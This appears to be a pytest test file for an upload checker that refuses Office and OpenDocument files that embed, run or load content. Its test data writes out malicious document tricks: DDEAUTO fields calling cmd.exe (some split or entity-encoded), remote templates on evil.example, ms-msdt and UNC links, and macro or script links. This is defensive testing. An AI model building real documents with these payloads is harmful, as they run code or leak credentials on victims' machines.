"""Finding 11, Office and OpenDocument: what runs, embeds or loads something is refused, however it is written."""

from __future__ import annotations

import io
import zipfile

import pytest

from core.files import Refused, limits
from core.files.kinds import OFFICE, OPEN_DOCUMENT
from core.files.office_parts import is_safe_link
from tests.core.files.given import TYPES, WORD_MAIN, archive, examined, types

pytestmark = pytest.mark.usefixtures("in_english")
SCHEMA = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD, SHEET, SLIDES = OFFICE
TEXT = next(iter(OPEN_DOCUMENT))
WORKSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
ACTIVE = "starts or loads"


def word(main: str = WORD, **entries: bytes) -> bytes:
    named = {name.replace("__", "/"): content for name, content in entries.items()}
    return archive({TYPES: types(main), "word/document.xml": b"<w:document xmlns:w='w'/>", **named})


def declaring(name: str, kind: str, *, main: str = "") -> bytes:
    """Content types of a document with one more part, beside a main one of the type ``main``."""
    override = f'<Override PartName="{name}" ContentType="{kind}"/></Types>'.encode()
    return (types(main) if main else types()).replace(b"</Types>", override)


def relations(kind: str, target: str, mode: str = "") -> bytes:
    written = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationships><Relationship Id="a" Type="{SCHEMA}/{kind}" Target="{target}"{written}/></Relationships>'.encode()


def related(kind: str, target: str, mode: str = "", name: str = "word/_rels/document.xml.rels") -> bytes:
    return archive({TYPES: types(WORD_MAIN), "word/document.xml": b"<d/>", name: relations(kind, target, mode)})


def fields(*texts: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in texts)
    return f"<w:document xmlns:w='w'><w:p>{runs}</w:p></w:document>".encode()


def field(text: str) -> bytes:
    return f"<w:document xmlns:w='w'><w:fldSimple w:instr='{text}'/></w:document>".encode()


def open_text(content: bytes = b"<office/>", **entries: bytes) -> bytes:
    return archive({"mimetype": TEXT.encode(), "content.xml": content, **entries})


def odf(element: str) -> bytes:
    names = (
        "xmlns:draw='d' xmlns:text='t' xmlns:office='o' xmlns:script='s' xmlns:xlink='x' xmlns:meta='m' xmlns:table='b'"
    )
    return f"<office:body {names}>{element}</office:body>".encode()


@pytest.mark.parametrize(
    "given",
    [
        related("attachedTemplate", "file:///C:/a.dotm", "External", "word/_rels/settings.xml.rels"),
        related("attachedTemplate", "https://evil.example/a.dotm", "External"),
        related("oleObject", "mhtml:https://evil.example/!x-usc:https://evil.example/a", "External"),
        related("oleObject", "objects/a.bin"),
        related("package", "objects/a.docm"),
        related("aFChunk", "a.html"),
        related("image", "https://evil.example/seen.png", "External"),
        related("image", "https://evil.example/seen.png", "external"),
        related("frame", "https://evil.example/", "External"),
        related("hyperlink", "file:///\\\\evil.example\\share\\a.exe", "External"),
        related("hyperlink", "ms-msdt:/id PCWDiagnostic", "External"),
        related("hyperlink", "\\\\evil.example\\share", "External"),
        related("control", "other.xml"),
        word(word__embeddings__oleObject1_bin=b"x"),
        word(word__embeddings__a_xlsx=b"x"),
        word(customUI__customUI_xml=b"<a/>"),
    ],
)
def test_document_that_embeds_or_loads_is_refused(given):
    with pytest.raises(Refused, match=ACTIVE):
        examined(given)


@pytest.mark.parametrize(
    "part",
    [
        fields("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
        fields("DD", "EAUTO", " cmd"),
        fields("dde cmd"),
        fields("&#68;&#68;&#69; cmd"),
        fields("QUOTE 68 68 69 65"),
        fields('INCLUDEPICTURE "https://evil.example/a.png"'),
        fields('INCLUDETEXT "\\\\\\\\evil\\\\a"'),
        field("DDE cmd"),
        b"\xef\xbb\xbf" + field("LINK Excel.Sheet"),
        b'<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick action="ppaction://program"/></p:sld>',
        b"<w:document xmlns:w='w' xmlns:o='o'><o:OLEObject/><o:OLEObject Type='Embed'/></w:document>",
        b"<externalLink xmlns='x'><ddeLink ddeService='cmd'/></externalLink>",
    ],
)
def test_field_or_click_that_starts_something_is_refused(part):
    with pytest.raises(Refused, match=ACTIVE):
        examined(word(word__other=b"", **{"word__footer1.xml": part}))


@pytest.mark.parametrize("name", ["xl/externalLinks/externalLink1.xml", "xl/activeX/a.xml"])
def test_spreadsheet_with_links_to_others_is_refused(name):
    with pytest.raises(Refused):
        examined(archive({TYPES: types(SHEET), "xl/workbook.xml": b"<w/>", name: b"<x/>"}))


@pytest.mark.parametrize(
    "part",
    [
        field("DDE cmd").decode().encode("utf-16"),
        b"<?xml version='1.0' encoding='utf-7'?>" + field("DDE cmd"),
        b'<?xml version="1.0" encoding="IBM037"?><a/>',
        b"<!DOCTYPE a [<!ENTITY d 'DDE'>]><a>&d;</a>",
        b"<a>",
    ],
    ids=["utf-16", "utf-7", "ebcdic", "entity", "cut off"],
)
def test_part_that_two_programs_could_read_in_two_ways_is_refused(part):
    with pytest.raises(Refused, match="damaged"):
        examined(word(**{"word__footer1.xml": part}))


@pytest.mark.parametrize(
    "element",
    [
        "<draw:object-ole/>", "<draw:plugin xlink:href='a'/>", "<draw:applet/>", "<draw:floating-frame/>",
        "<script:event-listener script:language='ooo:script'/>", "<text:dde-connection-decl/>", "<office:dde-source/>",
        "<draw:image xlink:href='https://evil.example/a.png'/>", "<draw:object xlink:href='../../a'/>",
        "<draw:object xlink:href='//evil.example/a'/>", "<text:section-source xlink:href='a'/>",
        "<text:a xlink:href='vnd.sun.star.script:a'/>", "<text:a xlink:href='macro:///a'/>",
        "<meta:template xlink:href='https://evil.example/a.ott'/>", "<meta:template xlink:href='file://evil/a.ott'/>",
        "<table:cell-range-source xlink:href='a'/>",
    ],
)  # fmt: skip
def test_open_document_that_runs_or_loads_is_refused(element):
    with pytest.raises(Refused, match=ACTIVE):
        examined(open_text(odf(element)))


def test_open_document_with_a_password_is_refused():
    manifest = b"<m:manifest xmlns:m='m'><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>"

    with pytest.raises(Refused, match="password"):
        examined(open_text(**{"META-INF/manifest.xml": manifest}))


@pytest.mark.parametrize(
    "given",
    [
        related("hyperlink", "https://example.org/a?b=c", "External"),
        related("hyperlink", "mailto:a@example.org", "External"),
        related("image", "media/image1.png"),
        related("styles", "styles.xml"),
        word(**{"word__footer1.xml": fields("PAGE", " \\* MERGEFORMAT")}),
        word(**{"word__footer1.xml": field('HYPERLINK "https://example.org"').replace(b"'H", b"'H")}),
        word(**{"word__text.xml": "<w:t xmlns:w='w'>رابط DDE LINK في النص</w:t>".encode()}),
        open_text(odf("<text:a xlink:href='https://example.org'>a</text:a><draw:image xlink:href='Pictures/a.png'/>")),
        open_text(odf("<draw:object xlink:href='./Object 1'/><meta:template xlink:href='../letter.ott'/>")),
        open_text(odf("<meta:template xlink:href='file:///home/a/letter.ott'/>")),
    ],
)
def test_harmless_document_is_taken_as_it_is(given):
    assert examined(given).content == given


def test_cells_of_a_spreadsheet_are_not_counted_as_text():
    cells = b"<worksheet>" + b"<c><v>1</v></c>" * 100_000 + b"</worksheet>"
    declared = declaring("/xl/worksheets/sheet1.xml", WORKSHEET, main=SHEET)
    given = archive(
        {TYPES: declared, "xl/workbook.xml": b"<w/>", "xl/worksheets/sheet1.xml": cells}, zipfile.ZIP_STORED
    )

    assert examined(given).extension == "xlsx"


def test_part_is_read_whatever_its_name_says_of_it():
    """Office finds a part by its declared type: the text of a letter may lie under the name of a worksheet, or under any other."""
    as_sheet = {"xl/worksheets/sheet1.xml": fields("DDEAUTO c:\\\\cmd.exe")}
    as_sheet_of_excel = {"xl/worksheets/sheet1.xml": b"<w xmlns:x='x'><x:ddeLink ddeService='cmd'/></w>"}

    with pytest.raises(Refused, match=ACTIVE):
        examined(archive({TYPES: declaring("/xl/worksheets/sheet1.xml", WORD), **as_sheet}))
    with pytest.raises(Refused, match=ACTIVE):
        examined(archive({TYPES: declaring("/xl/worksheets/sheet1.xml", WORKSHEET, main=WORD), **as_sheet}))
    with pytest.raises(Refused, match=ACTIVE):
        examined(archive({TYPES: types(SHEET), **as_sheet_of_excel}))


@pytest.mark.parametrize("name", ["/word/document.dat", "/word/document"])
def test_xml_under_a_name_that_is_not_read_is_refused(name):
    with pytest.raises(Refused, match="damaged"):
        examined(archive({TYPES: declaring(name, WORD, main=""), name[1:]: fields("DDEAUTO c:\\\\cmd.exe")}))


def test_pictures_of_word_in_svg_are_no_parts_to_be_read():
    svg = b'<Default Extension="svg" ContentType="image/svg+xml"/></Types>'
    given = archive({TYPES: types(WORD).replace(b"</Types>", svg), "word/document.xml": b"<d/>"})

    assert examined(given).extension == "docx"


@pytest.mark.parametrize("second", ["word/document.xml", "word/Document.XML"])
@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_parts_with_one_name_are_refused(second):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as made:
        for name, content in ((TYPES, types(WORD)), ("word/document.xml", b"<d/>"), (second, b"<d/>")):
            made.writestr(name, content)

    with pytest.raises(Refused, match="damaged"):
        examined(stream.getvalue())


def test_document_with_more_text_than_anybody_writes_is_refused(monkeypatch):
    monkeypatch.setattr("core.files.office_parts.XML_UNPACKED", 100)

    with pytest.raises(Refused, match="unpacks"):
        examined(word(**{"word__text.xml": b"<a>" + b"x" * 200 + b"</a>"}))
    assert limits.XML_UNPACKED > 10 * limits.MIB


@pytest.mark.parametrize(
    ("target", "is_safe"),
    [("https://a", True), ("#place", True), ("other.docx", True), ("JavaScript:x", False), (" \\\\a\\b", False), ("//a/b", False)],
)  # fmt: skip
def test_link_is_safe_only_as_a_page_or_mail(target, is_safe):
    assert is_safe_link(target) is is_safe
